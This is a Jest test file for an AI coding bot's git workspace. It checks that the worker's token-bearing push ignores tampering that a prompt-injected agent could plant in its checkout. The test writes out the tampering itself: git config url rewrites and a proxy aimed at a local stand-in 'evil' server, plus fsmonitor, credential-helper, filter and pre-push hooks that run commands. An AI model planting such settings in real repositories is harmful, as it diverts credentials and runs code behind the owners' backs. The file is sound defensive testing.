import { execFileSync } from 'node:child_process';
import fs from 'node:fs/promises';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { pushBranch } from '../../src/workspace/commit-and-push.ts';
import { prepareWorkspace, type Workspace } from '../../src/workspace/prepare-workspace.ts';
import { startGitHubSim, type GitHubSim } from '../support/github-sim.ts';
import { sealAndCommit } from '../support/seal-workspace.ts';

async function filesUnder(dir: string): Promise<string[]> {
  const entries = await fs.readdir(dir, { recursive: true, withFileTypes: true });
  return entries.filter((e) => e.isFile()).map((e) => path.join(e.parentPath, e.name));
}

// The agent can rewrite anything in its checkout, its `.git` and its box's git metadata. The
// worker's own git commands (the ones that hold a token) work on a repository the box never
// sees: no url rewrite, proxy, helper, hook or filter the agent planted steers them.
describe('worker git commands ignore what the agent wrote into the checkout', () => {
  let github: GitHubSim;
  let jobDir: string;
  let workspace: Workspace;
  let token: string;
  let evil: http.Server;
  const evilRequests: string[] = [];
  let evilUrl: string;

  beforeAll(async () => {
    github = await startGitHubSim();
    await github.createRepo({ owner: 'acme', name: 'tampered', files: { 'a.txt': 'one\n' } });
    evil = http.createServer((req, res) => {
      evilRequests.push(`${req.method} ${req.url} ${req.headers.authorization ?? ''}`);
      res.writeHead(401, { 'www-authenticate': 'Basic realm="x"' }).end();
    });
    await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
    evilUrl = `http://127.0.0.1:${(evil.address() as AddressInfo).port}/`;
    jobDir = await fs.mkdtemp(path.join(os.tmpdir(), 'ai-fix-tamper-'));
    token = github.mintToken();
    workspace = await prepareWorkspace({
      jobDir,
      cloneUrl: `${github.url}/acme/tampered.git`,
      defaultBranch: 'main',
      branch: 'ai-fix/issue-1',
      token,
      committer: { name: 'ai-fix[bot]', email: 'ai-fix@example.invalid' },
    });
  });

  afterAll(async () => {
    await github?.close();
    await new Promise((resolve) => evil?.close(resolve));
    if (jobDir) await fs.rm(jobDir, { recursive: true, force: true });
  });

  it('keeps the repository metadata outside the checkout', async () => {
    expect(path.relative(workspace.box.dir, workspace.box.gitDir).startsWith('..')).toBe(true);
    expect((await fs.stat(path.join(workspace.box.dir, '.git'))).isFile()).toBe(true);
  });

  it('pushes to the real remote even when the checkout carries a rigged .git', async () => {
    // What a prompt-injected agent would do with run_shell: swap .git for a repository whose
    // config sends every request for the real host to its own server, with the token.
    const pwned = path.join(jobDir, 'pwned');
    await fs.rm(path.join(workspace.box.dir, '.git'), { recursive: true, force: true });
    execFileSync('git', ['init', '-q', workspace.box.dir]);
    const rigged = path.join(workspace.box.dir, '.git');
    execFileSync('git', ['config', '-f', path.join(rigged, 'config'), `url.${evilUrl}.insteadOf`, `${github.url}/`]);
    execFileSync('git', ['config', '-f', path.join(rigged, 'config'), 'http.proxy', evilUrl]);
    execFileSync('git', ['config', '-f', path.join(rigged, 'config'), 'core.fsmonitor', `touch ${pwned}`]);
    execFileSync('git', ['config', '-f', path.join(rigged, 'config'), 'credential.helper', `!touch ${pwned}; true`]);
    await fs.writeFile(path.join(rigged, 'hooks', 'pre-push'), `#!/bin/sh\ntouch ${pwned}\n`, { mode: 0o755 });
    // The box's own metadata too, with a filter on every file.
    for (const [key, value] of [['core.fsmonitor', `touch ${pwned}`], ['filter.x.clean', `touch ${pwned}; cat`], ['filter.x.smudge', `touch ${pwned}; cat`], [`url.${evilUrl}.insteadOf`, `${github.url}/`]]) {
      execFileSync('git', ['config', '-f', path.join(workspace.box.gitDir, 'config'), key!, value!]);
    }
    await fs.writeFile(path.join(workspace.box.dir, '.gitattributes'), '* filter=x\n');
    await fs.writeFile(path.join(workspace.box.dir, 'a.txt'), 'two\n');

    const { sha } = await sealAndCommit(workspace, 'change');
    expect(sha).toMatch(/^[0-9a-f]{40}$/);
    await pushBranch(workspace, `${github.url}/acme/tampered.git`, token);

    expect(evilRequests).toEqual([]);
    await expect(fs.access(pwned)).rejects.toThrow();
    expect(await github.branchSha('acme', 'tampered', 'ai-fix/issue-1')).toBe(sha);
  });

  it('never writes the token to disk', async () => {
    for (const file of await filesUnder(jobDir)) {
      const content = await fs.readFile(file);
      expect(`${file}: ${content.includes(token)}`).toBe(`${file}: false`);
      expect(`${file}: ${content.includes(Buffer.from(`x-access-token:${token}`).toString('base64'))}`).toBe(`${file}: false`);
    }
  });
});
